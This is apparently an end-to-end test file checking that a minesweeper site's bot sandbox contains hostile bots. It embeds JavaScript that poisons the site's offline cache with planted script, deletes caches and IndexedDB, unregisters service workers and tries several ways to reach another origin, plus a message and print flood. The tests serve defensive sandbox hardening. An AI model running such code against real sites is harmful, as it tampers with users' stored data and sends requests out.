"""The bot lab's sandbox attacked, in Chromium, by bots written from a security review:
a bot that plants code in the site's offline copy and wipes it and the Python snapshot,
that reaches another origin during and after its game, that floods the page with
messages, one huge message and printed lines. After each, what the player meets: the next
visit clean and playing offline, the other origin hearing nothing, the page answering
within 100 ms, and no worker of the lab left running once it is closed
(docs/security.md lists each wall with its test)."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.e2e.conftest import PageGuard
from tests.e2e.reopen import start
from tests.e2e.test_lab import LONGEST_WAIT_JS, RUN_S, open_lab, paste, settle
from tests.e2e.test_offline import READY, WORKER_ACTIVE_JS
from web.page import ids

OpenGame = Callable[[str], Page]

# What the browser says when the sandbox's policy refuses a bot's request or script: the
# refusals these tests provoke, and only they, are let through the page guard.
REFUSED = (
    r"(?i)(content security policy|violates the following|refused to (connect|load)"
    r"|securityerror|the operation is insecure|failed to fetch|networkerror)"
)


class Listener:
    """Another origin on this machine that counts every request it gets (and would answer
    any, CORS and all, so that nothing but the sandbox stands in the way)."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()
                self.wfile.write(b"/* listening */")

            do_GET = do_POST = do_OPTIONS = _answer

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard = Listener()
    yield heard
    heard.close()


def hostile_bot(site: str, elsewhere: str) -> str:
    """A bot that looks like a solver and tries, from its first move, every way out the
    report found, then keeps trying every 200 ms: it opens covered cells meanwhile."""
    return f'''
import js

ATTACK = r"""
(() => {{
  const site = {site!r}, elsewhere = {elsewhere!r};
  const planted = '<script>localStorage.setItem("planted", "yes")</' + 'script>';
  const attempt = async (what) => {{ try {{ await what(); }} catch (e) {{}} }};
  const once = async () => {{
    await attempt(async () => {{
      for (const name of await caches.keys()) {{
        const cache = await caches.open(name);
        const html = {{headers: {{"Content-Type": "text/html"}}}};
        await cache.put(site + "index.html", new Response(planted, html));
        const python = "import js; js.localStorage.setItem('planted', 'yes')";
        await cache.put(site + "main.py", new Response(python));
      }}
    }});
    await attempt(async () => {{
      for (const name of await caches.keys()) await caches.delete(name);
    }});
    await attempt(async () => {{
      for (const db of await indexedDB.databases()) indexedDB.deleteDatabase(db.name);
    }});
    await attempt(() => fetch(elsewhere + "/fetch?" + Date.now(), {{mode: "no-cors"}}));
    await attempt(() => fetch(site + "sent?" + Date.now(), {{mode: "no-cors"}}));
    await attempt(() => import(elsewhere + "/module.js"));
    await attempt(() => {{ importScripts(elsewhere + "/classic.js"); }});
    await attempt(() => {{
      const x = new XMLHttpRequest(); x.open("GET", elsewhere + "/xhr"); x.send();
    }});
    await attempt(() => {{ new WebSocket(elsewhere.replace("http", "ws") + "/ws"); }});
    await attempt(() => {{ new EventSource(elsewhere + "/events"); }});
    await attempt(() => {{ new BroadcastChannel("minesweeper").postMessage("planted"); }});
    await attempt(async () => {{
      for (const r of await navigator.serviceWorker.getRegistrations()) r.unregister();
    }});
  }};
  once();
  setInterval(once, 200);
}})();
"""

started = False

def move(view):
    global started
    if not started:
        started = True
        js.eval(ATTACK)
    return next(("reveal", r, c) for r in range(view.rows) for c in range(view.cols)
                if view.at(r, c) == "covered")
'''


def lab_workers(context: BrowserContext, page: Page) -> list[str]:
    """The URLs of the workers the browser runs from blobs (the lab's: the page's own
    snapshot worker is a file of the site)."""
    session = context.new_cdp_session(page)
    try:
        targets = session.send("Target.getTargets")["targetInfos"]
    finally:
        session.detach()
    return [t["url"] for t in targets if t["type"] == "worker" and t["url"].startswith("blob:")]


def test_a_hostile_bot_reaches_neither_the_offline_copy_nor_the_snapshot_nor_any_server(
    profile: BrowserContext, base_url: str, listener: Listener, page_guard: PageGuard
) -> None:
    page_guard.allow(REFUSED)
    # Chromium refuses IndexedDB in the sandbox's opaque origin (SecurityError, which the
    # bot catches) and also reports that refusal to the page as an error without words.
    page_guard.allow(r"^page error: undefined$")
    page = profile.pages[0] if profile.pages else profile.new_page()
    start(page, f"{base_url}/?level=beginner&seed=3", READY, 60_000)
    page.evaluate(WORKER_ACTIVE_JS)
    page.reload()
    page.wait_for_function(READY, timeout=60_000)
    kept_before = page.evaluate("JSON.stringify(Object.entries(localStorage).sort())")

    open_lab(page)
    paste(page, hostile_bot(base_url.rstrip("/") + "/", listener.url))
    settle(page, "beginner", 3)
    page.locator(f"#{ids.LAB_RUN}").click()
    status = page.locator(f"#{ids.LAB_STATUS}")
    expect(status).to_contain_text("Done: 3 games.", timeout=RUN_S)
    assert lab_workers(profile, page) == []  # ended with the run, before the lab closed
    page.locator(f"#{ids.LAB_CLOSE}").click()
    page.wait_for_timeout(2000)  # the bot's timers would have fired ten times over
    assert lab_workers(profile, page) == []
    assert listener.heard == []  # another origin heard nothing, during or after

    # The next visit, offline: the game plays, from the copy the bot could not touch.
    profile.set_offline(True)
    page.reload()
    page.wait_for_function(READY, timeout=60_000)
    assert page.evaluate("localStorage.getItem('planted')") is None
    policy = page.evaluate(
        "document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content"
    )
    assert policy and "connect-src 'self'" in policy
    assert page.evaluate("document.documentElement.dataset.pythonStart") in ("snapshot", "boot")
    kept_after = page.evaluate(
        "JSON.stringify(Object.entries(localStorage)"
        ".filter(([key]) => !key.startsWith('minesweeper/lab-')).sort())"
    )
    assert kept_after == kept_before
    page.locator("#board .cell").nth(40).click()
    expect(page.locator("#board")).to_have_attribute("data-status", "playing")


FLOODER = '''
import js

def could_post():
    """Every way a bot might find to post a message out of its worker."""
    ways = {
        "self.postMessage": lambda: js.postMessage("flood"),
        "prototype": lambda: js.Object.getPrototypeOf(js.self).postMessage.call(js.self, "flood"),
        "eval": lambda: js.eval("postMessage('flood')"),
    }
    found = []
    for name, way in ways.items():
        try:
            way()
            found.append(name)
        except Exception:
            pass
    return found

def move(view):
    found = could_post()
    js.eval("""
      for (let i = 0; i < 200000; i++) {
        try { postMessage('x'.repeat(100)); } catch (e) { break; }
      }
      try { postMessage('y'.repeat(200 * 1024 * 1024)); } catch (e) {}
    """)
    for n in range(200_000):
        print("line", n)
    print("z" * 5_000_000)
    print("ways out:", found or "none")  # last: the flood before it pushes out the first lines
    return next(("reveal", r, c) for r in range(view.rows) for c in range(view.cols)
                if view.at(r, c) == "covered")
'''


def test_a_message_flood_a_huge_message_and_a_print_flood_leave_the_page_answering(
    open_game: OpenGame, page_guard: PageGuard
) -> None:
    page_guard.allow(REFUSED)
    page = open_game("/?level=beginner&seed=1")
    open_lab(page)
    paste(page, FLOODER)
    settle(page, "beginner", 2, limit="30")
    page.locator(f"#{ids.LAB_RUN}").click()
    page.wait_for_function(
        f"document.getElementById('{ids.LAB_STATUS}').textContent.startsWith('Played')",
        timeout=120_000,
    )
    assert page.evaluate(LONGEST_WAIT_JS, 3000) < 100  # while the bot floods
    status = page.locator(f"#{ids.LAB_STATUS}")
    expect(status).to_contain_text("Done: 2 games.", timeout=RUN_S)
    assert page.evaluate(LONGEST_WAIT_JS, 1000) < 100  # and after
    output = page.locator(f"#{ids.LAB_OUTPUT}")
    expect(output).to_contain_text("ways out: none")
    shown = output.inner_text()
    assert "earlier lines not shown)" in shown.splitlines()[0]
    assert len(shown.splitlines()) <= 201
    assert len(shown) < 200 * 600
    # What it printed is the bot's words, not an error: not in the traceback's colour.
    colours = page.evaluate(
        f"""[getComputedStyle(document.getElementById('{ids.LAB_OUTPUT}')).color,
            getComputedStyle(document.getElementById('{ids.LAB_TRACEBACK}')).color]"""
    )
    assert colours[0] != colours[1]
